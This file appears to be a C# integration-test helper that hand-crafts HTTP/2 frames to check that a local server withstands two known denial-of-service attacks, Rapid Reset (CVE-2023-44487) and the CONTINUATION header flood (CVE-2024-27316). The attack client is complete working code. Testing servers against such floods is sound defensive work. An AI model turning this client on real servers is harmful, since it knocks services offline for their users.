namespace Dkm.IntegrationTests.Hosting;

using System;
using System.Buffers.Binary;
using System.IO;
using System.Net.Security;
using System.Net.Sockets;
using System.Security.Authentication;
using System.Security.Cryptography.X509Certificates;
using System.Text;
using System.Threading;
using System.Threading.Tasks;
using Dkm.Testing.Services;

/// <summary>A client that writes HTTP/2 frames by hand (RFC 9113), as a well-behaved one never would.</summary>
internal sealed class Http2Attacker : IAsyncDisposable
{
    private const byte Headers = 1;
    private const byte ResetStream = 3;
    private const byte Settings = 4;
    private const byte Continuation = 9;
    private const byte EndHeaders = 4;
    private const byte Acknowledge = 1;

    private readonly TcpClient socket;
    private readonly SslStream tls;
    private readonly CancellationTokenSource end = new();
    private readonly Task reading;

    private Http2Attacker(TcpClient socket, SslStream tls)
    {
        this.socket = socket;
        this.tls = tls;
        reading = DrainAsync();
    }

    public static async Task<Http2Attacker> ConnectAsync(Uri address, X509Certificate2 certificate)
    {
        var socket = new TcpClient { NoDelay = true };
        await socket.ConnectAsync(address.Host, address.Port);
        var tls = new SslStream(socket.GetStream());
        await tls.AuthenticateAsClientAsync(new SslClientAuthenticationOptions
        {
            TargetHost = "localhost",
            EnabledSslProtocols = SslProtocols.Tls13,
            ClientCertificates = [certificate],
            ApplicationProtocols = [SslApplicationProtocol.Http2],
            RemoteCertificateValidationCallback = TestServers.AcceptAnyServer,
        });
        await tls.WriteAsync("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8.ToArray());
        var attacker = new Http2Attacker(socket, tls);
        await attacker.WriteAsync(Frame(Settings, 0, 0, []));
        await attacker.WriteAsync(Frame(Settings, Acknowledge, 0, []));
        return attacker;
    }

    /// <summary>CVE-2023-44487: opens streams and resets each at once. Answers how many it took until the server cut the line.</summary>
    public async Task<int> ResetUntilCutAsync(string path, int maximum)
    {
        var fields = Fields(path);
        try
        {
            for (var count = 0; count < maximum; count++)
            {
                if (reading.IsCompleted)
                {
                    return count;
                }

                var stream = (2 * count) + 1;
                byte[] pair = [.. Frame(Headers, EndHeaders, stream, fields), .. Frame(ResetStream, 0, stream, [0, 0, 0, 8])];
                await WriteAsync(pair);
            }
        }
        catch (IOException)
        {
            return 0;
        }

        return maximum;
    }

    /// <summary>CVE-2024-27316 and its like: one header block without an end.</summary>
    public async Task<bool> ContinueHeadersUntilCutAsync(string path, int maximum)
    {
        try
        {
            await WriteAsync(Frame(Headers, 0, 1, Fields(path)));
            for (var count = 0; count < maximum && !reading.IsCompleted; count++)
            {
                await WriteAsync(Frame(Continuation, 0, 1, Literal($"x-{count}", new string('a', 1000))));
            }

            await reading.WaitAsync(TimeSpan.FromSeconds(20));
            return true;
        }
        catch (IOException)
        {
            return true;
        }
        catch (TimeoutException)
        {
            return false;
        }
    }

    public async ValueTask DisposeAsync()
    {
        await end.CancelAsync();
        await reading;
        await tls.DisposeAsync();
        socket.Dispose();
        end.Dispose();
    }

    private static byte[] Frame(byte type, byte flags, int stream, ReadOnlySpan<byte> payload)
    {
        var frame = new byte[9 + payload.Length];
        frame[0] = (byte)(payload.Length >> 16);
        frame[1] = (byte)(payload.Length >> 8);
        frame[2] = (byte)payload.Length;
        frame[3] = type;
        frame[4] = flags;
        BinaryPrimitives.WriteInt32BigEndian(frame.AsSpan(5), stream);
        payload.CopyTo(frame.AsSpan(9));
        return frame;
    }

    /// <summary>HPACK (RFC 7541): :method POST and :scheme https by index, the rest literal.</summary>
    private static byte[] Fields(string path) =>
    [
        0x83, 0x87, .. Literal(":path", path), .. Literal(":authority", "localhost"), .. Literal("content-type", "application/grpc"), .. Literal("te", "trailers"),
    ];

    private static byte[] Literal(string name, string value) => [0x00, .. Text(name), .. Text(value)];

    private static byte[] Text(string text)
    {
        var bytes = Encoding.ASCII.GetBytes(text);
        return bytes.Length < 127
            ? [(byte)bytes.Length, .. bytes]
            : [0x7F, (byte)(((bytes.Length - 127) & 0x7F) | 0x80), (byte)((bytes.Length - 127) >> 7), .. bytes];
    }

    private async Task WriteAsync(byte[] bytes)
    {
        await tls.WriteAsync(bytes);
        await tls.FlushAsync();
    }

    private async Task DrainAsync()
    {
        var buffer = new byte[16 * 1024];
        try
        {
            while (await tls.ReadAsync(buffer, end.Token) > 0)
            {
                // Whatever the server says; only the end of it matters.
            }
        }
        catch (Exception exception) when (exception is IOException or OperationCanceledException)
        {
            // Cut, which is what a test waits for.
        }
    }
}
